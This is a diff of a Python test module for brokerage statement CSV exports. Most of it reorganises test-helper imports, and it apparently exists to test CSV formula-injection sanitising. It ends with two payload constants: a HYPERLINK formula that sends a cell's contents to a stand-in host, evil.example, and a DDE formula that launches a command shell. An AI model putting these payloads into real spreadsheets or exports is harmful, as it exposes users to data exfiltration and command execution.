@@ -23,7 +23,7 @@ from branding.statements.gains import gains_gather, gains_report
 from branding.statements.layout import PLAIN
 from branding.statements.performance_report import performance_overview, performance_report
 from branding.statements.report_render import csv_sections, report_csv
-from branding.tests.report_factories import (
+from branding.tests.factories import (
     END,
     START,
     TRADE_DAY,
@@ -31,12 +31,12 @@ from branding.tests.report_factories import (
     master_with_subs,
     trade,
 )
-from branding.tests.statement_factories import BRAND, statement_make
 from brokerportal import csvsafe
 from compliance.access_review import AccessRow, access_review_csv
 from ledger.services import cash_deposit
 from ledger.tests.factories import instrument_make, price_set
-from tenants.testing import login, tenant_client
+from tests.support.statements import BRAND, statement_make
+from tests.support.tenants import login, tenant_client
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Statement")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
